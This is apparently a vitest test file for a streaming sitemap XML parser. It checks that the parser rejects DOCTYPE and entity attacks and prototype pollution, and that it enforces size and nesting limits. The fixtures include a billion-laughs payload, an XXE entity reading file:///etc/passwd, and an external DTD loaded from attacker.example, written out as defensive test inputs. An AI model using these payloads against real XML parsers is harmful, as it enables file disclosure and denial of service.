import { describe, expect, it } from 'vitest';
import { createSitemapParser } from '../index.js';
import { OPTIONS, children, locs, pages, parse, parseErrorOf, urlset, utf8 } from './helpers.js';

describe('DTDs and entity attacks', () => {
  it('refuses the billion laughs before any entity is expanded', () => {
    const doc = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<urlset><url><loc>https://example.com/&lol9;</loc></url></urlset>`;
    const error = parseErrorOf(() => parse(doc));
    expect(error.kind).toBe('doctype_forbidden');
    expect(error.url).toBe(OPTIONS.sitemapUrl);
  });

  it('refuses an external entity (XXE) and an external DTD', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><urlset><url><loc>&xxe;</loc></url></urlset>';
    const externalDtd = '<!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd"><urlset/>';
    expect(parseErrorOf(() => parse(xxe)).kind).toBe('doctype_forbidden');
    expect(parseErrorOf(() => parse(externalDtd)).kind).toBe('doctype_forbidden');
  });

  it('refuses any spelling of DOCTYPE, and an ENTITY declaration without one', () => {
    expect(parseErrorOf(() => parse('<!doctype urlset><urlset/>')).kind).toBe('doctype_forbidden');
    expect(parseErrorOf(() => parse('<!DocType\nurlset><urlset/>')).kind).toBe('doctype_forbidden');
    expect(parseErrorOf(() => parse('<urlset><!ENTITY x "y"><url><loc>https://example.com/</loc></url></urlset>')).kind).toBe('doctype_forbidden');
  });

  it('does not mistake an HTML doctype with an internal subset for a harmless HTML page', () => {
    expect(parseErrorOf(() => parse('<!DOCTYPE html [<!ENTITY x "y">]><html/>')).kind).toBe('doctype_forbidden');
  });

  it('refuses a DOCTYPE whatever its entity names look like, and never expands a declared entity', () => {
    const shadows = [
      '<!DOCTYPE urlset [<!ENTITY amp "x">]><urlset><url><loc>https://example.com/?a=1&amp;b=2</loc></url></urlset>',
      '<!DOCTYPE urlset [<!ENTITY lt "https://evil.example/">]><urlset><url><loc>&lt;</loc></url></urlset>',
      '<!DOCTYPE html [<!ENTITY quot "x">]><urlset><url><loc>https://example.com/&quot;</loc></url></urlset>',
      '<!DOCTYPE HTML PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x" [<!ENTITY apos "y">]><urlset/>',
      '<! DOCTYPE urlset [<!ENTITY e "x">]><urlset><url><loc>https://example.com/&e;</loc></url></urlset>',
      '<!DOCTYPE\turlset><urlset/>',
    ];
    for (const doc of shadows) expect(parseErrorOf(() => parse(doc)).kind).toBe('doctype_forbidden');
  });

  it('names an HTML page only before the root: <!DOCTYPE html> inside a urlset is refused like any DOCTYPE', () => {
    expect(parseErrorOf(() => parse('<!DOCTYPE html><urlset><url><loc>https://example.com/</loc></url></urlset>')).kind).toBe('not_sitemap');
    expect(parseErrorOf(() => parse('<urlset><!DOCTYPE html><url><loc>https://example.com/</loc></url></urlset>')).kind).toBe('doctype_forbidden');
  });

  it('refuses a DOCTYPE that arrives mid-stream, after earlier pages were already returned', () => {
    const parser = createSitemapParser(OPTIONS);
    const head = urlset(`<!-- ${'x'.repeat(1100)} -->\n<url><loc>https://example.com/before</loc></url>`).replace('</urlset>', '');
    expect(locs(parser.write(utf8(head)))).toEqual(['https://example.com/before']);
    const error = parseErrorOf(() => parser.write(utf8('<!DOCTYPE x [<!ENTITY e "boom">]><url><loc>https://example.com/&e;</loc></url>')));
    expect(error.kind).toBe('doctype_forbidden');
    expect(error.context.bytes).toBeGreaterThan(head.length);
  });

  it('never expands HTML named entities or undeclared ones; decodes the 5 XML entities and numeric references', () => {
    const doc = urlset('<url><loc>https://example.com/a?q=&lt;&gt;&quot;&apos;&amp;&#x41;&#66;&nbsp;&copy;&lol;</loc></url>');
    expect(locs(parse(doc).items)).toEqual(['https://example.com/a?q=<>"\'&AB&nbsp;&copy;&lol;']);
  });
});

describe('hand-written XML', () => {
  it('keeps bare ampersands in query strings and text while decoding &amp;', () => {
    // Not well-formed XML, but common: strict parsers drop the whole file at the first bare `&`.
    const doc = urlset(`<url><loc>https://example.com/search?a=1&b=2</loc></url>
      <url><loc>https://example.com/search?a=1&amp;b=2</loc><image:image><image:loc>https://example.com/i.jpg</image:loc><image:title>AT&T & friends</image:title></image:image></url>`);
    const entries = pages(parse(doc).items);
    expect(entries.map((entry) => entry.loc)).toEqual(['https://example.com/search?a=1&b=2', 'https://example.com/search?a=1&b=2']);
    expect(entries[1]?.images[0]?.title).toBe('AT&T & friends');
  });

  it('recovers from an unclosed <url> and a dangling end tag', () => {
    // A botched edit: the first <url> never closes, then a stray "<priority>/</url>" without an opening <url>.
    const doc = `<urlset>
      <url><loc>https://example.com/a</loc>
      <url><loc>https://example.com/b</loc></url>
      <priority>0.8</priority></url>
      <url><loc>https://example.com/c</loc></url>
    </urlset>`;
    expect(locs(parse(doc).items)).toEqual(['https://example.com/a', 'https://example.com/b', 'https://example.com/c']);
  });

  it('keeps complete entries of a truncated document and drops the one cut off mid-loc', () => {
    const { items, stats } = parse('<urlset><url><loc>https://example.com/a</loc></url><url><loc>https://example.com/cu');
    expect(locs(items)).toEqual(['https://example.com/a']);
    expect(stats.dropped.malformed).toBe(1);
  });
});

describe('prototype pollution', () => {
  it('treats __proto__, constructor and prototype tags and attributes as unknown elements', () => {
    const doc = `<urlset>
      <__proto__><polluted>yes</polluted></__proto__>
      <url><loc>https://example.com/</loc><__proto__>x</__proto__><constructor><prototype>y</prototype></constructor>
        <xhtml:link rel="alternate" hreflang="de" href="https://example.com/de/" __proto__="x" constructor="y"/>
      </url>
      <x:__proto__ polluted="1"/>
    </urlset>`;
    const { items } = parse(doc);
    expect(pages(items)).toEqual([
      {
        loc: 'https://example.com/',
        lastmod: null,
        changefreq: null,
        priority: null,
        alternates: [{ hreflang: 'de', href: 'https://example.com/de/' }],
        images: [],
        videos: [],
        news: null,
      },
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(pages(items)[0])).toBe(Object.prototype);
  });
});

describe('resource bounds', () => {
  it('refuses nesting deeper than 64 levels', () => {
    const doc = `<urlset>${'<a>'.repeat(100_000)}</urlset>`;
    const error = parseErrorOf(() => parse(doc));
    expect(error.kind).toBe('invalid_xml');
    expect(error.message).toContain('nested');
  });

  it('accepts the nesting real sitemaps use', () => {
    expect(locs(parse(`<urlset><url><loc>https://example.com/</loc>${'<x>'.repeat(40)}${'</x>'.repeat(40)}</url></urlset>`).items)).toHaveLength(1);
  });

  it('refuses a collected text field larger than the 1 MiB cap as too_large, with the limit', () => {
    const doc = urlset(`<url><loc>https://example.com/${'a'.repeat(1_100_000)}</loc></url>`);
    const error = parseErrorOf(() => parse(doc));
    expect(error.kind).toBe('too_large');
    expect(error.context.limit).toBe(1_048_576);
  });

  it('refuses a giant text node arriving in chunks, CDATA included, as too_large', () => {
    for (const [open, close] of [
      ['<loc>', '</loc>'],
      ['<loc><![CDATA[', ']]></loc>'],
    ]) {
      const parser = createSitemapParser(OPTIONS);
      parser.write(utf8(`<urlset><url>${open}https://example.com/`));
      const chunk = utf8('a'.repeat(65_536));
      const error = parseErrorOf(() => {
        for (let i = 0; i < 200; i++) parser.write(chunk);
        parser.write(utf8(`${close}</url></urlset>`));
      });
      expect(error.kind).toBe('too_large');
    }
  });

  it('refuses a giant attribute on a link it reads as too_large', () => {
    const doc = urlset(
      `<url><loc>https://example.com/</loc><xhtml:link rel="alternate" hreflang="de" href="https://example.com/${'a'.repeat(1_100_000)}"/></url>`,
    );
    expect(parseErrorOf(() => parse(doc)).kind).toBe('too_large');
  });

  it('refuses a single token (a comment) longer than 8 Mi characters when it arrives in chunks, as too_large', () => {
    const parser = createSitemapParser(OPTIONS);
    parser.write(utf8('<urlset><!--'));
    const chunk = utf8('x'.repeat(65_536));
    const error = parseErrorOf(() => {
      for (let i = 0; i < 200; i++) parser.write(chunk);
    });
    expect(error.kind).toBe('too_large');
  });

  it('streams large text it does not collect (a big description outside any field) without failing', () => {
    const doc = urlset(`<url><loc>https://example.com/</loc><description>${'word '.repeat(600_000)}</description></url>`);
    expect(locs(parse(doc).items)).toEqual(['https://example.com/']);
  });

  it('keeps failing with the same error after the first one', () => {
    const parser = createSitemapParser(OPTIONS);
    const first = parseErrorOf(() => parser.write(utf8(`<!DOCTYPE x>${' '.repeat(2000)}`)));
    expect(parseErrorOf(() => parser.write(utf8('<urlset/>')))).toBe(first);
    expect(parseErrorOf(() => parser.end())).toBe(first);
  });
});

describe('numeric character references to no character', () => {
  const refs = ['&#x110000;', '&#1114112;', '&#99999999999;', '&#xD800;', '&#57343;', '&#x0;', '&#xFFFD;'];

  it.each(refs)('drops and counts a loc holding %s, never emitting it', (ref) => {
    const { items, stats } = parse(urlset(`<url><loc>https://example.com/a${ref}b</loc></url><url><loc>https://example.com/ok</loc></url>`));
    expect(locs(items)).toEqual(['https://example.com/ok']);
    expect(stats.dropped.malformed).toBe(1);
  });

  it.each(refs)('leaves out an hreflang alternate whose href holds %s', (ref) => {
    const { items } = parse(
      urlset(
        `<url><loc>https://example.com/en</loc><xhtml:link rel="alternate" hreflang="de" href="https://example.com/de${ref}"/><xhtml:link rel="alternate" hreflang="fr" href="https://example.com/fr"/></url>`,
      ),
    );
    expect(pages(items)[0]?.alternates).toEqual([{ hreflang: 'fr', href: 'https://example.com/fr' }]);
  });

  it('drops an index child, a feed link and a text-field value holding one', () => {
    const index = parse(
      `<sitemapindex><sitemap><loc>https://example.com/a&#xDFFF;.xml</loc></sitemap><sitemap><loc>https://example.com/b.xml</loc></sitemap></sitemapindex>`,
    );
    expect(children(index.items)).toEqual(['https://example.com/b.xml']);
    expect(index.stats.dropped.malformed).toBe(1);
    const feed = parse(
      `<feed><entry><link href="https://example.com/x&#x110000;"/></entry><entry><link rel="enclosure" href="https://example.com/&#xD800;"/><link href="https://example.com/y"/></entry></feed>`,
    );
    expect(locs(feed.items)).toEqual(['https://example.com/y']);
    const image = parse(
      urlset(
        `<url><loc>https://example.com/p</loc><image:image><image:loc>https://example.com/i.png</image:loc><image:title>t&#x110000;</image:title></image:image></url>`,
      ),
    );
    expect(pages(image.items)[0]?.images).toEqual([expect.objectContaining({ loc: 'https://example.com/i.png', title: null })]);
  });

  it('still decodes references to real characters', () => {
    const { items } = parse(urlset('<url><loc>https://example.com/&#x41;&#66;&#x1F600;</loc></url>'));
    expect(locs(items)).toEqual(['https://example.com/AB\u{1F600}']);
  });
});
